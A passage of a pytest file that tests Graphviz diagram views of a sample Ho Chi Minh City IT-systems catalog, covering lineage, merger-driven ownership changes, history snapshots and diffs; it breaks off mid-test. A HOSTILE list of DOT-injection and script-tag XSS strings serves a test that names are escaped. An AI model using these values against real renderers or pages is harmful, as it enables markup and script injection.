"""Diagrams drawn from the sample HCMC catalog with the real Graphviz: right, readable, reproducible, safe."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import re
import zipfile
from collections import Counter, deque
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import BACKENDS, SAMPLE, FakeClock, entity, make_store, rel

from catalog.changelog import canonical_json
from catalog.errors import CatalogError, ValidationFailed
from catalog.history.facts import parse_graph
from catalog.history.snapshot import (
    NothingRecorded,
    Snapshot,
    clear_cache,
    days,
    recorded_graph,
    revision_at,
    snapshot_from,
)
from catalog.model import LocalText, OwnerPeriod
from catalog.store.base import CatalogStore, EntityFilter, WriteContext
from diagrams import ViewParams, build, dot_for, draw, registry, to_dot
from diagrams.bundle import build_bundle, safe_cell, verify_bundle
from diagrams.dot import node_id
from diagrams.render import fix_pdf_date, run_dot
from importers.base import run_import

RECORDED = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)  # the sample is recorded before the 2025 mergers
BEFORE, AFTER = "2025-02-01", "2025-08-01"
IOC = "platform:hcm-ioc"
# imported as users do: control characters other than tab and line breaks are refused on import now (catalog.text);
# a catalog that holds them from before is drawn by tests/api/test_hostile_input.py
HOSTILE = ['"]; evil [label="x', "<script>alert(1)</script>", "a\\\"b & c' ]] }} -> n_x", "line\nbreak\ttab"]


@pytest.fixture(scope="module", params=BACKENDS)
def sample(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[CatalogStore]:
    store = make_store(request.param, tmp_path_factory.mktemp("diagrams"))
    store.clock = FakeClock(RECORDED)
    report = run_import(store, SAMPLE)
    assert report.loaded and not report.rejected
    yield store
    store.close()


def expected_ioc_members(root: str) -> set[str]:
    """Independently of diagrams/: a BFS over the sample JSON, against data flow, from the IOC."""
    data = json.loads(SAMPLE.read_text(encoding="utf-8"))
    # relationship type -> True when the source depends on the target (else the target depends on the source)
    source_depends = {
        "reads": True,
        "consumes": True,
        "published_on": True,
        "writes": False,
        "provides": False,
        "exposes": False,
        "flows_to": False,
        "feeds": False,
    }
    upstream: dict[str, set[str]] = {}
    for r in data["relationships"]:
        if r["type"] not in source_depends or r.get("properties", {}).get("status") == "retired":
            continue
        dependent, dependee = (r["source"], r["target"]) if source_depends[r["type"]] else (r["target"], r["source"])
        upstream.setdefault(dependent, set()).add(dependee)
    seen, todo = {root}, deque([root])
    while todo:
        for nxt in upstream.get(todo.popleft(), ()):
            if nxt not in seen:
                seen.add(nxt)
                todo.append(nxt)
    return seen


def load(store: CatalogStore, path: Path, entities: list, relationships: list) -> None:
    """Write through an import (native JSON), as users do."""
    doc = {
        "format": "ioc-catalog",
        "format_version": 1,
        "entities": [
            e.model_dump(mode="json", exclude={"version", "created_at", "updated_at", "provenance"}) for e in entities
        ],
        "relationships": [
            r.model_dump(mode="json", exclude={"id", "version", "created_at", "updated_at", "provenance"})
            for r in relationships
        ],
    }
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    report = run_import(store, path)
    assert report.loaded and not report.rejected, report.rejected


# --- views ---------------------------------------------------------------------------------------------------------


def test_registry_has_the_builtin_views() -> None:
    assert {"ioc", "department", "context", "shared-db", "landscape", "diff"} <= set(registry())


def test_ioc_view_has_every_system_and_database_with_a_path_to_the_ioc(sample: CatalogStore) -> None:
    expected = expected_ioc_members(IOC)
    assert {"system:hcm-cong-1022", "database:hcm-csdl-ngap", "database:vn-csdl-dan-cu"} <= expected  # sanity
    # the whole lineage (the default stops at the city's edge: tests/diagrams/test_ioc_scope.py)
    d = build(sample, "ioc", ViewParams(ref=IOC, lineage="full"))
    drawn = set(d.nodes)
    wanted = {r for r in expected if r.split(":")[0] in ("system", "database")}
    assert wanted <= drawn, sorted(wanted - drawn)
    rels = json.loads(SAMPLE.read_text("utf-8"))["relationships"]
    vias = {r["properties"]["via"] for r in rels if r.get("properties", {}).get("via")}
    assert expected <= drawn and drawn - expected <= vias  # nothing that has no path into the IOC but the platforms
    # that flows into it go via (drawn through their nodes)
    dot = dot_for(sample, "ioc", ViewParams(ref=IOC, lineage="full"))
    for ref in wanted:
        assert f"/entities/{ref}\"" in dot
    # every relationship that carries data straight into the IOC is an arrow into it
    ioc_id = node_id(IOC)
    data = json.loads(SAMPLE.read_text(encoding="utf-8"))
    into = [
        r
        for r in data["relationships"]
        if r["target"] == IOC and r["type"] == "feeds" and r.get("properties", {}).get("status") != "retired"
    ]
    into += [r for r in data["relationships"] if r["source"] == IOC and r["type"] in ("reads", "consumes")]
    for r in into:
        other = r["source"] if r["target"] == IOC else r["target"]
        assert re.search(rf"{node_id(other)} -> {ioc_id} \[", dot), other


def test_ioc_view_clusters_by_department_and_moves_with_the_mergers(sample: CatalogStore) -> None:
    def cluster_of(as_of: str, ref: str) -> str:
        d = build(sample, "ioc", ViewParams(ref=IOC, as_of=as_of))
        return d.clusters[d.nodes[ref].cluster].label

    assert cluster_of(BEFORE, "system:hcm-cong-1022") == "Sở Thông tin và Truyền thông TP.HCM"
    assert cluster_of(AFTER, "system:hcm-cong-1022") == "Sở Khoa học và Công nghệ TP.HCM"
    assert cluster_of(BEFORE, "system:hcm-dau-tu-cong") == "Sở Kế hoạch và Đầu tư TP.HCM"
    assert cluster_of(AFTER, "system:hcm-dau-tu-cong") == "Sở Tài chính TP.HCM"
    before = dot_for(sample, "ioc", ViewParams(ref=IOC, as_of=BEFORE))
    after = dot_for(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER))
    sttt = "Sở Thông tin và Truyền thông TP.HCM"
    assert sttt in before and sttt not in after
    assert "Sở Khoa học và Công nghệ TP.HCM" in after
    assert "01/02/2025" in before and "01/08/2025" in after  # the stamp's date, as Vietnamese writes it
    # Bình Dương's systems still belonged to the province in February, to the city in August
    assert cluster_of(BEFORE, "system:bd-dich-vu-cong") == "Sở Thông tin và Truyền thông tỉnh Bình Dương"
    assert cluster_of(AFTER, "system:bd-dich-vu-cong") == "Sở Khoa học và Công nghệ TP.HCM"


def test_valid_on_reads_the_current_record_about_a_past_day(sample: CatalogStore) -> None:
    d = build(sample, "ioc", ViewParams(ref=IOC, valid_on=BEFORE))
    assert d.as_of is None and d.day == BEFORE
    assert d.clusters[d.nodes["system:hcm-cong-1022"].cluster].label == "Sở Thông tin và Truyền thông TP.HCM"


def test_as_of_before_anything_was_recorded_says_so(sample: CatalogStore) -> None:
    with pytest.raises(NothingRecorded, match="valid-on"):
        build(sample, "ioc", ViewParams(as_of="2024-06-01"))


def test_other_views(sample: CatalogStore) -> None:
    dep = build(sample, "department", ViewParams(ref="organization:hcm-sxd", as_of=AFTER))
    assert "system:hcm-utmc" in dep.nodes and dep.nodes["system:hcm-utmc"].cluster == "organization:hcm-sxd"
    assert IOC in dep.nodes and dep.nodes[IOC].highlight == "context"  # a direct connection
    ctx = build(sample, "context", ViewParams(ref="database:hcm-csdl-ngap", depth=1, direction="in"))
    assert set(ctx.nodes) == {"database:hcm-csdl-ngap", "system:hcm-scada-ngap", IOC}
    db = build(sample, "shared-db", ViewParams(ref="database:hcm-csdl-nguoi-dan"))
    assert {
        "system:hcm-an-sinh",
        "service:hcm-api-nguoi-dan",
        "platform:hcm-lgsp",
        "system:hcm-ho-tich",
        "system:hcm-quan-ly-giao-duc",
    } <= set(db.nodes)
    land = build(sample, "landscape", ViewParams(as_of=AFTER))
    assert not land.notes and "system:hn-ihanoi" in land.nodes
    small = build(sample, "landscape", ViewParams(as_of=AFTER, limit=20))
    assert small.notes and all(n.kind == "organization" for n in small.nodes.values())
    assert any(e.type == "aggregate" and int(e.label) > 1 for e in small.edges)
    with pytest.raises(ValidationFailed):
        build(sample, "department", ViewParams())  # needs --ref
    with pytest.raises(ValidationFailed):
        build(sample, "shared-db", ViewParams(ref="system:hcm-cong-1022"))


def drawn_from_models(store: CatalogStore, view: str, params: ViewParams) -> str:
    """The DOT of a view drawn from a whole snapshot built from full models (``recorded_graph``: iter_entities or
    graph_as_of), i.e. without catalog.history.facts, store.graph_json/part_json or a view's read_part."""
    as_of, day = days(store, params.as_of, params.valid_on)
    snap = snapshot_from(store.metamodel, recorded_graph(store, as_of), day, as_of, revision_at(store, as_of))
    v = registry()[view]
    if params.ref:
        snap.require(params.ref, v.ref_kinds or ())
    return to_dot(v.draw(snap, params), store.metamodel)  # type: ignore[attr-defined]


def part_cases(store: CatalogStore) -> list[tuple[str, ViewParams]]:
    ents = list(store.iter_entities())
    cases = [
        ("ioc", ViewParams()),
        ("ioc", ViewParams(ref=IOC)),
        ("landscape", ViewParams()),
        ("landscape", ViewParams(limit=20)),
    ]
    cases += [("shared-db", ViewParams(ref=e.ref)) for e in ents if e.kind == "database"]
    cases += [("department", ViewParams(ref=e.ref)) for e in ents if e.kind == "organization"]
    for ref in [
        "database:hcm-csdl-ngap",
        "system:hcm-cong-1022",
        IOC,
        "platform:hcm-lgsp",
        "organization:hcm-sxd",
        "organization:hcm-sttt",
    ]:
        for depth in (0, 1, 2):
            for direction in ("in", "out", "both"):
                cases.append(("context", ViewParams(ref=ref, depth=depth, direction=direction)))
    return cases


@pytest.mark.parametrize(
    "when", ["today 2025-01-02", "today 2025-08-01", "as_of " + BEFORE, "as_of " + AFTER, "valid_on " + BEFORE]
)
def test_views_read_only_their_part_and_draw_what_the_models_draw(
    sample: CatalogStore, when: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ioc, department, context and shared-db read only their part of the record (store.part_json), when the record
    to draw is the current one (no as_of, or nothing written since as_of: the sample is recorded on 2025-01-01);
    landscape reads the whole record as stored JSON. Each gives the DOT drawn from a whole snapshot of full models,
    before and after the 2025 mergers (owners, clusters, units, retired edges), and the same errors."""
    import diagrams.views

    clock = sample.clock
    assert isinstance(clock, FakeClock)
    saved = clock.now
    how, day = when.split()
    clock.set(
        dt.datetime.fromisoformat(day).replace(hour=12, tzinfo=dt.UTC)
        if how == "today"
        else dt.datetime(2025, 1, 2, 12, tzinfo=dt.UTC)
    )
    real_load = diagrams.views.load_snapshot

    def no_whole_read(*args: object, **kw: object) -> object:
        raise AssertionError("read the whole catalog")

    try:
        for view, params in part_cases(sample):
            if how != "today":
                params = dataclasses.replace(params, **{how: day})
            clear_cache()
            monkeypatch.setattr(diagrams.views, "load_snapshot", real_load if view == "landscape" else no_whole_read)
            try:
                expected = drawn_from_models(sample, view, params)
            except CatalogError as exc:
                with pytest.raises(type(exc)):
                    dot_for(sample, view, params)
                continue
            assert dot_for(sample, view, params) == expected, (view, params)
    finally:
        clock.now = saved
    with pytest.raises(CatalogError, match="does not exist"):
        build(sample, "context", ViewParams(ref="system:nope"))


@pytest.mark.parametrize("rewind_limit", [0, 500])
def test_a_record_changed_since_the_date_draws_as_it_was(
    tmp_path: Path, rewind_limit: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When something was written after as_of, a view draws the record at as_of as the models of store.graph_as_of
    draw it: rebuilt from the change log (rewind_limit 0), or the current tables with what was written since put
    back (parts and whole record): added, changed (owner moved, renamed), deleted entities and relationships, a
    new unit of an organisation."""
    import catalog.history.snapshot

    monkeypatch.setattr(catalog.history.snapshot, "REWIND_LIMIT", rewind_limit)
    store = make_store("sqlite", tmp_path)
    clock = FakeClock(RECORDED)
    store.clock = clock
    run_import(store, SAMPLE)
    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.UTC))
    load(
        store,
        tmp_path / "new.json",
        [
            entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn"),
            entity("organization:hcm-sxd-unit", "Phòng mới", parent="organization:hcm-sxd"),
        ],
        [rel("feeds", "system:hcm-new", IOC, protocol="rest")],
    )
    ctx = WriteContext(actor="test")
    moved = next(
        e for e in store.list_entities(EntityFilter(owner="organization:hcm-sxd", limit=5)) if e.kind != "organization"
    )
    update = {"owner_history": [OwnerPeriod(org="organization:hcm-sxd-unit")], "name": LocalText(vi="Đổi", en="R")}
    store.update_entity(moved.model_copy(update=update), moved.version, ctx)
    gone = store.list_relationships(IOC)[0]
    store.delete_relationship(gone.id, gone.version, ctx)
    store.delete_entity("system:hcm-cong-1022", store.get_entity("system:hcm-cong-1022").version, ctx, cascade=True)
    for day in ("2025-05-01", "2025-07-01"):
        for view, params in part_cases(store) + [("diff", ViewParams(from_date="2025-05-01", to_date="2025-07-01"))]:
            params = dataclasses.replace(params, as_of=day) if view != "diff" else params
            clear_cache()
            try:
                expected = drawn_from_models(store, view, params) if view != "diff" else None
            except CatalogError as exc:
                with pytest.raises(type(exc)):
                    dot_for(store, view, params)
                continue
            got = dot_for(store, view, params)
            assert expected is None or got == expected, (view, params)
        ioc = build(store, "ioc", ViewParams(ref=IOC, as_of=day)).nodes
        assert ("system:hcm-new" in ioc, "system:hcm-cong-1022" in ioc) == (
            (True, False) if day > "2025-06" else (False, True)
        )
    d = build(store, "diff", ViewParams(from_date="2025-05-01", to_date="2025-07-01"))
    assert (
        d.nodes["system:hcm-new"].highlight,
        d.nodes["system:hcm-cong-1022"].highlight,
        d.nodes[moved.ref].highlight,
    ) == ("added", "removed", "changed")
    store.close()


def test_facts_answer_as_the_models(sample: CatalogStore) -> None:
    """catalog.history.facts (stored JSON, parsed partly or lazily) gives the values of the full models, for every entity
    and relationship of the sample, also from JSON that is not in canonical form (the slow path)."""
    ents, rels = sample.graph_json()
    facts, rel_facts = parse_graph(ents, rels)
    models = {e.ref: e for e in sample.iter_entities()}
    assert set(facts) == set(models)
    days_ = [dt.date(2024, 1, 1), dt.date(2025, 2, 28), dt.date(2025, 3, 1), dt.date(2026, 1, 1)]
    for ref, e in models.items():
        for f in (facts[ref], parse_graph([json.dumps(e.content(), ensure_ascii=True, indent=1)], [])[0][ref]):
            assert (f.ref, f.kind, f.code, f.name, f.attributes, f.valid_from, f.valid_to) == (
                e.ref,
                e.kind,
                e.code,
                e.name,
                e.attributes,
                e.valid_from,
                e.valid_to,
            )
            assert [f.owner_on(d) for d in days_] == [e.owner_on(d) for d in days_]
            assert (f.owner, f.tags, f.description, f.content()) == (e.owner, e.tags, e.description, e.content())
    assert sum(e.owner_on(dt.date(2025, 2, 28)) != e.owner_on(dt.date(2025, 3, 1)) for e in models.values()) > 3
    by_id = {r.id: r for r in sample.all_relationships()}
    assert sorted(r.id for r in rel_facts) == sorted(by_id)
    odd = [{**r.content(), "valid_from": "2025-01-01"} for r in list(by_id.values())[:5]]
    for f in (
        rel_facts + parse_graph([], [json.dumps(r.content(), ensure_ascii=True, indent=1) for r in by_id.values()])[1]
    ):
        r = by_id[f.id]
        assert (f.type, f.source, f.target, f.valid_from, f.valid_to, f.properties, f.content()) == (
            r.type,
            r.source,
            r.target,
            r.valid_from,
            r.valid_to,
            r.properties,
            r.content(),
        )
        assert f.state() == {k: v for k, v in r.content().items() if k != "provenance"}
    for d, f in zip(odd, parse_graph([], [canonical_json(d) for d in odd])[1], strict=False):
        assert (f.id, f.valid_from, f.valid_to) == (d["id"], dt.date(2025, 1, 1), None)


def test_diff_between_the_mergers(sample: CatalogStore) -> None:
    d = build(sample, "diff", ViewParams(from_date=BEFORE, to_date=AFTER))
    assert d.nodes["system:hcm-cong-1022"].highlight == "changed"  # owner moved to Sở KHCN
    assert "chủ quản" in d.nodes["system:hcm-cong-1022"].sublabel
    assert d.nodes["organization:hcm-snnmt"].highlight == "added"  # created 2025-03-01
    assert d.nodes["organization:hcm-sttt"].highlight == "removed"  # merged away 2025-03-01
    assert "system:hcm-ho-tich" not in d.nodes  # unchanged (Sở Tư pháp, no merger)
    dot = dot_for(sample, "diff", ViewParams(from_date=BEFORE, to_date=AFTER))
    assert "#15803d" in dot and "#b91c1c" in dot and "#c2410c" in dot


def test_diff_shows_what_was_recorded_between_two_dates(tmp_path: Path) -> None:
    store = make_store("sqlite", tmp_path)
    clock = FakeClock(RECORDED)
    store.clock = clock
    run_import(store, SAMPLE)
    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.UTC))
    load(
        store,
        tmp_path / "new.json",
        [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn")],
        [rel("feeds", "system:hcm-new", IOC, protocol="rest")],
    )
    d = build(store, "diff", ViewParams(from_date="2025-05-01", to_date="2025-06-15"))
    assert d.nodes["system:hcm-new"].highlight == "added"
    assert [(e.tail, e.head, e.highlight) for e in d.edges] == [("system:hcm-new", IOC, "added")]
    assert d.nodes[IOC].highlight == "context"
    store.close()


def whole_from_models(store: CatalogStore, day: dt.date) -> Snapshot:
    """The whole snapshot on ``day`` of the record at ``day``, read as full models (``recorded_graph``: graph_as_of),
    i.e. without diagrams.changes, the record reader or store.graph_json/part_json (the diff view compares the
    facts' stored content, so the models are given to it as facts of their content)."""
    from catalog.history.snapshot import recorded_revision

    revision = recorded_revision(store, day)
    g = recorded_graph(store, day)
    ents, rels = parse_graph(
        [canonical_json(e.content()) for e in g.entities.values()],
        [canonical_json(r.content()) for r in g.relationships],
    )
    return snapshot_from(store.metamodel, dataclasses.replace(g, entities=ents, relationships=rels), day, day, revision)


def diff_from_models(store: CatalogStore, params: ViewParams, wholes: dict | None = None) -> str:
    """The DOT of the diff view drawn from the two whole snapshots of :func:`whole_from_models` (kept in
    ``wholes`` by day)."""
    wholes = {} if wholes is None else wholes
    snaps = []
    for day in (dt.date.fromisoformat(params.from_date or ""), dt.date.fromisoformat(params.to_date or "")):
        if day not in wholes:
            wholes[day] = whole_from_models(store, day)
        snaps.append(wholes[day])
    from diagrams.registry import budget

    drawn = registry()["diff"].draw(*snaps, params)  # type: ignore[attr-defined]
    return to_dot(budget(store, drawn, params), store.metamodel)  # the size budget applies to both ways alike


def assert_diffs_read_only_what_changed(
    store: CatalogStore, days_: list[str], monkeypatch: pytest.MonkeyPatch, langs: tuple[str, ...] = ("vi",)
) -> int:
    """For every pair of days, the diff read by diagrams.changes (never both whole records) is the DOT drawn from
    both whole records of full models, or the same error. Returns how many pairs drew something."""
    import diagrams.views

    def no_whole_read(*args: object, **kw: object) -> object:
        raise AssertionError("read a whole record")

    drawn, wholes = 0, {}
    for i, a in enumerate(days_):
        for b in days_[i + 1 :]:
            for lang in langs:
                params = ViewParams(from_date=a, to_date=b, lang=lang, detail="full")  # every node, not folded
                clear_cache()
                with monkeypatch.context() as m:
                    m.setattr(diagrams.views, "load_snapshot", no_whole_read)
                    try:
                        got = dot_for(store, "diff", params)
                    except NothingRecorded:
                        with pytest.raises(NothingRecorded):
                            diff_from_models(store, params, wholes)
                        continue
                assert got == diff_from_models(store, params, wholes), (a, b, lang)
                drawn += got.count("#15803d") > 0 or got.count("#b91c1c") > 0
    return drawn


def test_diff_reads_only_what_changed_across_the_mergers(sample: CatalogStore, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing written after the sample was recorded: every change between two days is a world-date change
    (owners moving on 2025-03-01 and 2025-07-01, units created and merged away), found without parsing both
    records; the diff draws what the whole records draw, in both languages."""
    days_ = [
        "2024-12-31",
        "2025-01-01",
        BEFORE,
        "2025-02-28",
        "2025-03-01",
        "2025-06-30",
        "2025-07-01",
        AFTER,
        "2026-01-01",
    ]
    assert assert_diffs_read_only_what_changed(sample, days_, monkeypatch, ("vi", "en")) >= 20


def test_diff_reads_only_what_changed_after_later_writes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Writes between and after the two days: additions (one valid only from a later day, a relationship valid
    for a few months), an owner moved, a rename, a relationship's protocol changed, deletions (an entity with its
    relationships, a relationship), an entity retired by its validity, and writes after the last day (so neither
    record is the current one). Every pair of days draws what the whole records draw; with more change-log entries
    after the first day than catalog.history.snapshot.REWIND_LIMIT, both records are read whole instead."""
    import catalog.history.snapshot
    import diagrams.views

    store = make_store("sqlite", tmp_path)
    clock = FakeClock(RECORDED)
    store.clock = clock
    run_import(store, SAMPLE)
    ctx = WriteContext(actor="test")
    clock.set(dt.datetime(2025, 4, 1, tzinfo=dt.UTC))
    later = entity("system:hcm-later", "Hệ thống sau", owner="organization:hcm-skhcn").model_copy(
        update={"valid_from": dt.date(2025, 5, 15)}
    )
    load(
        store,
        tmp_path / "april.json",
        [entity("system:hcm-new", "Hệ thống mới", owner="organization:hcm-skhcn"), later],
        [
            rel("feeds", "system:hcm-new", IOC, protocol="rest"),
            rel("feeds", "system:hcm-later", IOC),
            *(
                rel("flows_to", "system:hcm-new", end).model_copy(
                    update={"valid_from": dt.date(2025, 5, 1), "valid_to": dt.date(2025, 9, 1)}
                )
                for end in ("system:hcm-cong-1022", "system:hcm-ho-tich")
            ),
        ],
    )
    moved = next(
        e for e in store.list_entities(EntityFilter(owner="organization:hcm-sxd", limit=5)) if e.kind != "organization"
    )
    store.update_entity(
        moved.model_copy(update={"owner_history": [OwnerPeriod(org="organization:hcm-skhcn")]}), moved.version, ctx
    )
    clock.set(dt.datetime(2025, 6, 1, tzinfo=dt.UTC))
    renamed = store.get_entity("system:hcm-ho-tich")
    store.update_entity(
        renamed.model_copy(update={"name": LocalText(vi="Hộ tịch mới", en="Civil status")}), renamed.version, ctx
    )
    proto = next(r for r in store.list_relationships(IOC) if r.properties.get("protocol"))
    store.update_relationship(
        proto.model_copy(update={"properties": {**proto.properties, "protocol": "sftp"}}), proto.version, ctx
    )
    gone = next(r for r in store.list_relationships("database:hcm-csdl-ngap"))
    store.delete_relationship(gone.id, gone.version, ctx)
    store.delete_entity("system:hcm-cong-1022", store.get_entity("system:hcm-cong-1022").version, ctx, cascade=True)
    retired = store.get_entity("system:hcm-utmc")
    store.update_entity(retired.model_copy(update={"valid_to": dt.date(2025, 7, 15)}), retired.version, ctx)
    clock.set(dt.datetime(2025, 10, 1, tzinfo=dt.UTC))
    again = store.get_entity("system:hcm-new")
    store.update_entity(
        again.model_copy(update={"name": LocalText(vi="Đổi tên lần nữa", en="Renamed")}), again.version, ctx
    )
    store.delete_entity("system:hcm-later", store.get_entity("system:hcm-later").version, ctx, cascade=True)

    days_ = [
        "2025-01-01",
        BEFORE,
        "2025-03-01",
        "2025-04-01",
        "2025-05-01",
        "2025-05-10",
        "2025-06-01",
        "2025-07-01",
        "2025-07-15",
        "2025-07-20",
        AFTER,
        "2025-09-01",
        "2025-10-01",
        "2026-01-01",
    ]
    assert assert_diffs_read_only_what_changed(store, days_, monkeypatch) >= 50
    d = build(store, "diff", ViewParams(from_date=BEFORE, to_date="2025-05-10"))
    assert (d.nodes["system:hcm-new"].highlight, d.nodes[moved.ref].highlight) == ("added", "changed")
    assert "system:hcm-later" not in d.nodes  # recorded, but valid only from 2025-05-15
    d = build(store, "diff", ViewParams(from_date="2025-05-10", to_date="2025-07-20"))
    assert {
        ref: d.nodes[ref].highlight
        for ref in ("system:hcm-later", "system:hcm-cong-1022", "system:hcm-ho-tich", "system:hcm-utmc")
    } == {
        "system:hcm-later": "added",
        "system:hcm-cong-1022": "removed",
        "system:hcm-ho-tich": "changed",
        "system:hcm-utmc": "removed",
    }
    assert moved.ref not in d.nodes or d.nodes[moved.ref].highlight == "context"  # moved before both days
    highlights = {(e.tail, e.head): e.highlight for e in d.edges}
    assert highlights[("system:hcm-later", IOC)] == "added"
    assert highlights[("system:hcm-new", "system:hcm-cong-1022")] == "removed"  # its end deleted
    d = build(store, "diff", ViewParams(from_date="2025-04-01", to_date="2025-05-01"))
    assert {(e.tail, e.head): e.highlight for e in d.edges}[("system:hcm-new", "system:hcm-ho-tich")] == "added"
    # past the rewind limit both records are read whole (from the change log), and draw the same
    monkeypatch.setattr(catalog.history.snapshot, "REWIND_LIMIT", 0)
    whole = 0
    real = diagrams.views.load_snapshot

    def counted(*args: object, **kw: object) -> object:
        nonlocal whole
        whole += 1
        return real(*args, **kw)

    monkeypatch.setattr(diagrams.views, "load_snapshot", counted)
    params = ViewParams(from_date="2025-05-10", to_date="2025-07-20")
    clear_cache()
    assert dot_for(store, "diff", params) == diff_from_models(store, params) and whole == 2
    store.close()


def test_diff_of_a_synthetic_catalog_reads_only_what_changed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The bench's synthetic catalog (bench/synthetic.py, 1,000 entities): departments merged on 2025-03-01 and
    provinces on 2025-07-01 move hundreds of owners and end the validity of organisations; the diff draws what the
    whole records draw."""
    from bench.synthetic import generate
    from catalog.store.base import BulkLoad, new_run_id

    store = make_store("sqlite", tmp_path)
    store.clock = FakeClock(RECORDED)
    ents, rels = generate(entities=1_000)
    store.bulk_load(
        BulkLoad(source="test:synthetic", run=new_run_id(), entities=ents, relationships=rels),
        WriteContext(actor="test"),
    )
    days_ = [BEFORE, "2025-02-28", "2025-03-01", "2025-06-30", "2025-07-01", AFTER]
    assert assert_diffs_read_only_what_changed(store, days_, monkeypatch) >= 10
    d = build(store, "diff", ViewParams(from_date=BEFORE, to_date=AFTER, detail="full"))
    assert Counter(n.highlight for n in d.nodes.values()).keys() >= {"added", "removed", "changed", "context"}
    store.close()


def test_a_diff_drawn_again_reads_nothing_until_something_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = make_store("sqlite", tmp_path)
    clock = FakeClock(RECORDED)
    store.clock = clock
    run_import(store, SAMPLE)
    reads: list[tuple] = []
    real = store.graph_json
    monkeypatch.setattr(store, "graph_json", lambda *args: reads.append(args) or real(*args))
    params = ViewParams(from_date=BEFORE, to_date=AFTER)
    clear_cache()
    first = dot_for(store, "diff", params)
    assert dot_for(store, "diff", params) == first and len(reads) == 1
    clock.set(dt.datetime(2025, 5, 1, tzinfo=dt.UTC))
    e = store.get_entity("system:hcm-ho-tich")
    store.update_entity(
        e.model_copy(update={"name": LocalText(vi="Hộ tịch mới", en="Civil status")}),
        e.version,
        WriteContext(actor="test"),
    )
    again = dot_for(store, "diff", params)
    assert len(reads) == 2 and again != first and "Hộ tịch mới" in again
    store.close()


def test_entities_that_may_change_between_two_days_are_found_without_parsing() -> None:
    """diagrams.changes.bounded_between keeps every entity text (canonical, or indented JSON) whose validity or
    differs between two days, or that has a period boundary between them, and no other."""
    from diagrams.changes import bounded_between

    d = dt.date
    days_ = [
        d(1999, 12, 31),
        d(2024, 12, 31),
        d(2025, 1, 1),
        d(2025, 2, 28),
        d(2025, 3, 1),
        d(2025, 3, 2),
        d(2025, 12, 31),
        d(2026, 1, 1),
        d(2099, 1, 1),
    ]
    ents = [entity("system:plain", "S", owner="organization:a")]
    for i, b in enumerate(days_):
        ents.append(entity(f"system:from-{i}", "S").model_copy(update={"valid_from": b}))
        ents.append(entity(f"system:to-{i}", "S").model_copy(update={"valid_to": b}))
        ents.append(
            entity(f"system:moved-{i}", "S").model_copy(
                update={
                    "owner_history": [
                        OwnerPeriod(org="organization:a", end=b),
                        OwnerPeriod(org="organization:b", start=b),
                    ]
                }
            )
        )
        ents.append(
            entity(f"system:gap-{i}", "S").model_copy(
                update={"owner_history": [OwnerPeriod(org="organization:a", start=d(1990, 1, 1), end=b)]}
            )
        )
    texts = {e.ref: canonical_json(e.content()) for e in ents}
    loose = {e.ref: json.dumps(e.content(), indent=1, ensure_ascii=False) for e in ents}
    assert all(t.startswith('{"attributes":{') for t in texts.values())
    for i, start in enumerate(days_):
        for end in days_[i + 1 :]:
            differ = {
                e.ref
                for e in ents
                if (e.valid_from is None or e.valid_from <= start) != (e.valid_from is None or e.valid_from <= end)
                or (e.valid_to is None or start < e.valid_to) != (e.valid_to is None or end < e.valid_to)
                or e.owner_on(start) != e.owner_on(end)
            }
            bounded = {
                e.ref
                for e in ents
                for b in [e.valid_from, e.valid_to] + [x for p in e.owner_history for x in (p.start, p.end)]
                if b is not None and start < b <= end
            }
            assert differ <= bounded
            for form in (texts, loose):
                found = {json.loads(t)["ref"] for t in bounded_between(list(form.values()), start, end)}
                assert found == bounded, (start, end)


# --- DOT, rendering ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["dot", "svg", "png", "pdf"])
def test_same_catalog_same_view_same_bytes(sample: CatalogStore, fmt: str) -> None:
    for view, p in [
        ("ioc", ViewParams(as_of=AFTER)),
        ("landscape", ViewParams(as_of=AFTER)),
        ("context", ViewParams(ref="system:hcm-cong-1022", depth=2, as_of=AFTER)),
    ]:
        assert draw(sample, view, p, fmt) == draw(sample, view, p, fmt), (view, fmt)


def test_dot_is_sorted_stamped_styled_and_linked(sample: CatalogStore) -> None:
    dot = dot_for(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER, lang="en"), url_prefix="https://c.example")
    seq, head = sample.revision()
    assert f"#{seq} {head[:12]}" in dot  # recorded before AFTER: the head then is the head now
    assert dot.count('fontname="Noto Sans"') >= 3
    assert 'URL="https://c.example/entities/system:hcm-cong-1022"' in dot
    assert "shape=cylinder" in dot and "shape=component" in dot and "shape=hexagon" in dot and "shape=box" in dot
    assert "Legend" in dot and "Information system" in dot and "State on: 2025-08-01" in dot
    # edge labels: the protocol; a flow via a platform goes through its node (the other views name it)
    lgsp = node_id("platform:hcm-lgsp")
    assert re.search(rf"{node_id('system:hcm-cong-1022')} -> {lgsp} \[[^\n]*REST", dot)
    assert "REST · via LGSP" in dot_for(sample, "context", ViewParams(ref="system:hcm-cong-1022", lang="en"))
    ids = re.findall(r"^\s*(n_[0-9a-f]+) \[", dot, re.M)
    assert ids and all(re.fullmatch(r"n_[0-9a-f]{12}", i) for i in ids)  # no catalog text in ids
    vi = dot_for(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER))
    assert "Chú giải" in vi and "Hệ thống thông tin" in vi


def test_hostile_names_are_drawn_as_text(tmp_path: Path) -> None:
    store = make_store("sqlite", tmp_path)
    ents = [
        entity("organization:evil", HOSTILE[1]),
        entity(
            "platform:ioc",
            "IOC",
            owner="organization:evil",
            platform_type="operations_centre",
            platform_subtype="city_ioc",
        ),
    ]
    ents += [entity(f"system:s{i}", name, owner="organization:evil") for i, name in enumerate(HOSTILE)]
    load(
        store,
        tmp_path / "evil.json",
        ents,
